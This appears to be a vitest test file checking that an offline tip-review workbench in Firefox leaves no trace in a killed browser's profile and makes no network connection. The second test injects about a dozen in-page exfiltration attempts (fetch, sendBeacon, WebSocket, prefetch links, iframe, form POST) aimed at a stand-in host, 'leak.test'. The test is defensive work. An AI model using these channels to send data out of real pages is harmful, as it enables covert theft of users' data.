import { execFileSync } from "node:child_process";
import { once } from "node:events";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { type AddressInfo, createServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import puppeteer from "puppeteer-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { EMPTY_REPORT } from "../../client/report/report.ts";
import { buildWorkbench } from "../../client/workbench/build/build.ts";
import { en } from "../../client/workbench/strings/en.ts";
import { type Desk, sealedTip, testDesk, writeBundle } from "../support/desk.ts";
import { filesWith } from "../support/files.ts";
import { launchFirefox } from "../support/firefox.ts";
import { WorkbenchPage } from "../support/workbench-page.ts";

/** Letters that nothing else holds, and that a compressor keeps as they are. */
const MARKERS = {
  opened: "QzXwVkJhPbTnRsLd",
  searched: "WjYvKqGxMzBcHfPt",
  noted: "HgTzQwXpJkVnBsRm",
  labelled: "PvNkZxQwLtJgYhCb",
  control: "XbWqLzKvTnJhGpYs",
};

const home = mkdtempSync(join(tmpdir(), "nightjar-traces-"));
const file = join(home, "workbench.html");
let desk: Desk;
let bundle: string;

beforeAll(async () => {
  writeFileSync(file, await buildWorkbench());
  desk = await testDesk();
  const tip = await sealedTip(desk, { ...EMPTY_REPORT, narrative: `They said ${MARKERS.opened} to me.` });
  bundle = await writeBundle(desk, "bundle.tar", [[tip, "2026-11-20"]]);
});
afterAll(() => {
  desk.remove();
  rmSync(home, { recursive: true, maxRetries: 5, retryDelay: 200 });
});

/** Works, types into every kind of field, and saves nothing. */
async function work(bench: WorkbenchPage): Promise<void> {
  await bench.start(file);
  await bench.unlock(join(desk.folder, "Wren.vault"));
  await bench.unlocked();
  await bench.bring(bundle);
  await bench.openTip(MARKERS.opened);
  await bench.press(en.review.keep);
  await bench.find("#note");
  await bench.page.type("#note", MARKERS.noted);
  await bench.page.type("#new-label", MARKERS.labelled);
  await bench.page.type("#search", MARKERS.searched);
}

test("an ordinary Firefox that is killed in mid-work keeps nothing that was typed or opened", async () => {
  const profile = mkdtempSync(join(home, "profile-"));
  const browser = await puppeteer.launch({
    browser: "firefox",
    executablePath: execFileSync("which", ["firefox-esr"], { encoding: "utf8" }).trim(),
    headless: true,
    userDataDir: profile,
    // As an ordinary one, but it saves its session at once: what it would keep is there when it is killed.
    extraPrefsFirefox: {
      "browser.sessionstore.resume_from_crash": true,
      "browser.sessionstore.privacy_level": 0,
      "browser.sessionstore.interval": 200,
      "browser.sessionstore.interval.idle": 200,
    },
  });
  const [page] = await browser.pages();
  if (!page) throw new Error("Firefox opened without a page");
  await work(new WorkbenchPage(page));

  // Another tab shows that what is typed elsewhere is found: its field forgets nothing.
  const control = join(home, "control.html");
  writeFileSync(control, '<!doctype html><title>Control</title><textarea id="kept"></textarea>');
  const other = await browser.newPage();
  await other.goto(pathToFileURL(control).href);
  await other.type("#kept", MARKERS.control);
  await expect
    .poll(() => filesWith(profile, [Buffer.from(MARKERS.control)]).length, { timeout: 60_000, interval: 500 })
    .toBeGreaterThan(0);
  await page.type("#note", ".");
  await new Promise((resolve) => setTimeout(resolve, 2000));

  const firefox = browser.process();
  if (!firefox) throw new Error("no process");
  const exited = once(firefox, "exit");
  firefox.kill("SIGKILL");
  await exited;
  for (const [what, marker] of Object.entries(MARKERS)) {
    const found = filesWith(profile, [Buffer.from(marker), Buffer.from(marker, "utf16le")]);
    expect([what, found.length > 0]).toEqual([what, what === "control"]);
  }
});

test("nothing leaves, not even a name to look up, whatever a script in it would try", async () => {
  let connections = 0;
  const outside = createServer((socket) => {
    connections++;
    socket.on("error", () => {});
    socket.destroy();
  });
  outside.listen(0, "127.0.0.1");
  await once(outside, "listening");
  const { port } = outside.address() as AddressInfo;
  await using firefox = await launchFirefox({
    "network.proxy.type": 1,
    "network.proxy.socks": "127.0.0.1",
    "network.proxy.socks_port": port,
    "network.proxy.socks_remote_dns": true,
    "network.proxy.no_proxies_on": "",
  });
  await new Promise((resolve) => setTimeout(resolve, 1000));
  const bench = new WorkbenchPage(firefox.page);
  const before = connections;
  await work(bench);
  await firefox.page.evaluate(async () => {
    const where = "http://leak.test/";
    const tries: (() => unknown)[] = [
      () => fetch(where),
      () => navigator.sendBeacon(where, "x"),
      () => new WebSocket("ws://leak.test/"),
      () => new EventSource(where),
      () => Object.assign(new Image(), { src: where }),
      () =>
        document.head.append(
          Object.assign(document.createElement("link"), { rel: "dns-prefetch", href: where }),
        ),
      () =>
        document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: where })),
      () =>
        document.head.append(
          Object.assign(document.createElement("link"), { rel: "stylesheet", href: where }),
        ),
      () => document.body.append(Object.assign(document.createElement("iframe"), { src: where })),
      () => document.body.append(Object.assign(document.createElement("video"), { src: where })),
      () => {
        const form = Object.assign(document.createElement("form"), { action: where, method: "post" });
        document.body.append(form);
        form.submit();
      },
    ];
    for (const attempt of tries) {
      try {
        await attempt();
      } catch {
        // Refused at once is as good as refused later.
      }
    }
  });
  await new Promise((resolve) => setTimeout(resolve, 1500));
  expect(connections - before).toBe(0);
  const rtc = await firefox.page.evaluate(() =>
    ["RTCPeerConnection", "mozRTCPeerConnection"].some((name) => name in window),
  );
  expect(rtc).toBe(false);

  // The observer does see what leaves.
  const page = await firefox.browser.newPage();
  await page.goto("http://control.test/").catch(() => undefined);
  expect(connections - before).toBeGreaterThan(0);
  outside.close();
});
